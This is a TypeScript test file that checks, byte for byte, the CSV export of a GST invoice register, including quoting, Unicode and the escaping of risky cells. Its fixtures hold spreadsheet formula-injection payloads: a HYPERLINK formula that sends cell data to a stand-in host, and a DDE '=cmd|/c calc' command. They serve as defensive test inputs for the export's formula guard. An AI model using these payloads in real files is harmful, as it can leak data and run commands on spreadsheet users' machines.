import { createHash } from 'node:crypto';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp, type TestUser } from '../../test/test-app.ts';
import { createStateMerchant, GUJARAT } from './bill-test-fixture.ts';

/*
 * The register CSV byte for byte, on documents written straight into the tables so every odd cell
 * is there: text with the delimiter, quotes and line breaks, text a spreadsheet would run, a
 * negative round off, an unknown state code, notes naming their invoice. Any change to how the
 * register is read or encoded must leave these bytes as they are.
 */

let t: TestApp;

beforeAll(async () => {
  t = await createTestApp();
});
afterAll(() => t.close());

type Buyer = { name: string; gstin?: string };
/** taxable, cgst, sgst, igst, round off, total */
type Amounts = [number, number, number, number, number, number];
type Document = [
  number: string,
  date: string,
  buyer: Buyer,
  placeOfSupply: string,
  amounts: Amounts,
  status: string,
];

// prettier-ignore
const DOCUMENTS: Document[] = [
  ['INV/2026-27/0001', '2026-04-01', { name: 'સુરત સિલ્ક' }, '24', [1000, 25, 25, 0, 0, 1050], 'unpaid'],
  ['INV/2026-27/0002', '2026-04-02', { name: 'Shah, "Silks" & Sons', gstin: '27AAPFU0939F1ZV' }, '27', [1234.5, 0, 0, 222.21, -0.71, 1456], 'partly_paid'],
  ['INV/2026-27/0003', '2026-04-02', { name: '=HYPERLINK("http://x.test/?d="&A1)' }, '99', [10, 0.25, 0.25, 0, 0.5, 11], 'cancelled'],
  ['INV/2026-27/0004', '2026-04-03', { name: '-2+3 Traders' }, '24', [99999999.99, 0, 0, 0, 0.01, 100000000], 'paid'],
  ['@INV/0005', '2026-04-04', { name: 'Line one\nline two', gstin: '+24AAACS1234A1Z5' }, '24', [0.1, 0, 0, 0, -0.1, 0], 'unpaid'],
  ['INV/2026-27/0006', '2026-04-04', { name: '\tTabbed\rreturn' }, '', [5, 0, 0, 0, 0, 5], 'unpaid'],
];

/** Fixed ids, so documents of one date come in the same order in every run. */
const fixedId = (index: number) => `00000000-0000-4000-8000-${String(index).padStart(12, '0')}`;

async function writeDocuments(user: TestUser) {
  const organizationId = user.auth.organization._id;
  const merchantId = await createStateMerchant(t, user, { name: 'Any', state: GUJARAT });
  const db = t.database.handle.db;
  for (const [
    index,
    [number, date, buyer, placeOfSupply, amounts, status],
  ] of DOCUMENTS.entries()) {
    const [taxable, cgst, sgst, igst, roundOff, total] = amounts;
    await db.execute(sql`insert into bills
        (organization_id, id, number, merchant_id, bill_date, due_date, bill_type, gst_rate,
         place_of_supply, taxable_amount, cgst_amount, sgst_amount, igst_amount, round_off,
         total_amount, paid_amount, status, seller, merchant)
      values (${organizationId}, ${fixedId(index + 1)}, ${number}, ${merchantId},
        ${date}, ${date}, 'tax_invoice', 5, ${placeOfSupply},
        ${taxable}, ${cgst}, ${sgst}, ${igst}, ${roundOff}, ${total},
        ${status === 'paid' ? total : 0}, ${status},
        '{"name": "Seller"}'::jsonb, ${JSON.stringify(buyer)}::jsonb)`);
  }
  const note = (id: number, kind: 'credit' | 'debit', number: string, billId: number) =>
    db.execute(sql`insert into bill_notes
        (organization_id, id, number, kind, bill_id, merchant_id, note_date, due_date, reason,
         gst_rate, place_of_supply, taxable_amount, cgst_amount, sgst_amount, igst_amount,
         round_off, total_amount, status, seller, merchant)
      values (${organizationId}, ${fixedId(id)}, ${number}, ${kind}, ${fixedId(billId)},
        ${merchantId}, '2026-04-03', ${kind === 'debit' ? '2026-04-20' : null}, 'others', 5, '24',
        100, 2.5, 2.5, 0, 0, 105, ${kind === 'credit' ? 'issued' : 'unpaid'},
        '{"name": "Seller"}'::jsonb, '{"name": "=cmd|\\"/c calc\\"!A1"}'::jsonb)`);
  await note(101, 'credit', 'CN/2026-27/0001', 1);
  await note(102, 'debit', 'DN/2026-27/0001', 2);
}

const HEADER =
  'Invoice number,Invoice date,Document type,Original invoice number,Original invoice date,Buyer name,Buyer GSTIN,Place of supply,Taxable value,CGST,SGST,IGST,Round off,Invoice value,Status\n';

describe('register CSV bytes', () => {
  it('writes every odd cell exactly as before', async () => {
    const user = await t.registerUser();
    await writeDocuments(user);
    const response = await t.send(user, 'GET', '/api/bills/export.csv');
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.rawPayload.toString('utf8')).toBe(
      '\ufeff' +
        HEADER +
        'INV/2026-27/0001,2026-04-01,Invoice,,,સુરત સિલ્ક,,24-Gujarat,1000.00,25.00,25.00,0.00,0.00,1050.00,unpaid\n' +
        'INV/2026-27/0002,2026-04-02,Invoice,,,"Shah, ""Silks"" & Sons",27AAPFU0939F1ZV,27-Maharashtra,1234.50,0.00,0.00,222.21,-0.71,1456.00,partly_paid\n' +
        'INV/2026-27/0003,2026-04-02,Invoice,,,"\'=HYPERLINK(""http://x.test/?d=""&A1)",,99,10.00,0.25,0.25,0.00,0.50,11.00,cancelled\n' +
        "INV/2026-27/0004,2026-04-03,Invoice,,,'-2+3 Traders,,24-Gujarat,99999999.99,0.00,0.00,0.00,0.01,100000000.00,paid\n" +
        'CN/2026-27/0001,2026-04-03,Credit note,INV/2026-27/0001,2026-04-01,"\'=cmd|""/c calc""!A1",,24-Gujarat,100.00,2.50,2.50,0.00,0.00,105.00,issued\n' +
        'DN/2026-27/0001,2026-04-03,Debit note,INV/2026-27/0002,2026-04-02,"\'=cmd|""/c calc""!A1",,24-Gujarat,100.00,2.50,2.50,0.00,0.00,105.00,unpaid\n' +
        '\'@INV/0005,2026-04-04,Invoice,,,"Line one\nline two",\'+24AAACS1234A1Z5,24-Gujarat,0.10,0.00,0.00,0.00,-0.10,0.00,unpaid\n' +
        'INV/2026-27/0006,2026-04-04,Invoice,,,"\'\tTabbed\rreturn",,,5.00,0.00,0.00,0.00,0.00,5.00,unpaid\n',
    );
  });

  it('writes a register of several pages and chunks exactly as before', async () => {
    const user = await t.registerUser();
    const organizationId = user.auth.organization._id;
    const merchantId = await createStateMerchant(t, user, { name: 'Any', state: GUJARAT });
    // 2,345 bills over 400 days, several a day: more than two keyset pages of 1,000 and many
    // encoding chunks, with a name that needs quoting or the formula guard every few rows.
    await t.database.handle.db.execute(sql`insert into bills
        (organization_id, id, number, merchant_id, bill_date, due_date, bill_type, gst_rate,
         place_of_supply, taxable_amount, cgst_amount, sgst_amount, igst_amount, round_off,
         total_amount, paid_amount, status, seller, merchant)
      select ${organizationId}, md5('bill' || n)::uuid, 'INV/' || lpad(n::text, 5, '0'),
        ${merchantId}, date '2025-04-01' + (n * 7 % 400), date '2025-04-01' + (n * 7 % 400),
        'tax_invoice', 5, case when n % 5 = 0 then '27' else '24' end,
        n * 10.25, n * 0.25, n * 0.25, 0, case when n % 3 = 0 then -0.5 else 0.25 end,
        n * 10.75 + case when n % 3 = 0 then -0.5 else 0.25 end, 0,
        case when n % 11 = 0 then 'cancelled' else 'unpaid' end,
        '{"name": "Seller"}'::jsonb,
        jsonb_build_object('name', case n % 4 when 0 then 'Mill ' || n when 1 then '=Mill, "' || n || '"'
          when 2 then 'મિલ ' || n else '-' || n end,
          'gstin', case when n % 2 = 0 then '24AAACS' || lpad(n::text, 4, '0') || 'A1Z5' end)
      from generate_series(1, 2345) as n`);
    // A note on every seventh bill, dated up to four days after it: the register interleaves
    // them with the bills by date across the pages.
    await t.database.handle.db.execute(sql`insert into bill_notes
        (organization_id, id, number, kind, bill_id, merchant_id, note_date, due_date, reason,
         gst_rate, place_of_supply, taxable_amount, cgst_amount, sgst_amount, igst_amount,
         round_off, total_amount, status, seller, merchant)
      select ${organizationId}, md5('note' || n)::uuid,
        case when n % 2 = 0 then 'CN/' else 'DN/' end || lpad(n::text, 5, '0'),
        case when n % 2 = 0 then 'credit' else 'debit' end, md5('bill' || n)::uuid, ${merchantId},
        date '2025-04-01' + (n * 7 % 400) + n % 5,
        case when n % 2 = 1 then date '2025-04-01' + (n * 7 % 400) + n % 5 end, 'others', 5, '24',
        n * 1.5, 0, 0, 0, 0, n * 1.5, case when n % 2 = 0 then 'issued' else 'unpaid' end,
        '{"name": "Seller"}'::jsonb, jsonb_build_object('name', '@Note ' || n)
      from generate_series(7, 2345, 7) as n`);
    const response = await t.send(user, 'GET', '/api/bills/export.csv');
    expect(response.statusCode, response.body).toBe(200);
    const body = response.rawPayload;
    expect(body.toString('utf8').split('\n')).toHaveLength(2345 + 335 + 2);
    expect(body.length).toBe(EXPECTED_LENGTH);
    expect(createHash('sha256').update(body).digest('hex')).toBe(EXPECTED_SHA256);

    // A year's register, as the benchmark downloads it: the same lines, those of its dates.
    const [header = '', ...lines] = body.toString('utf8').split('\n');
    const inYear = (line: string) => {
      const date = line.split(',')[1] ?? '';
      return date >= '2025-06-01' && date <= '2026-05-31';
    };
    const year = await t.send(
      user,
      'GET',
      '/api/bills/export.csv?startDate=2025-06-01&endDate=2026-05-31',
    );
    expect(year.statusCode, year.body).toBe(200);
    expect(year.body).toBe([header, ...lines.filter(inYear), ''].join('\n'));
  });
});

// The register's bytes for this data as the server wrote them when the test was added.
const EXPECTED_LENGTH = 302_282;
const EXPECTED_SHA256 = '3d18e51fc29863f817daba2bde823a15c370af5f5f8be23966cef48c0669568d';
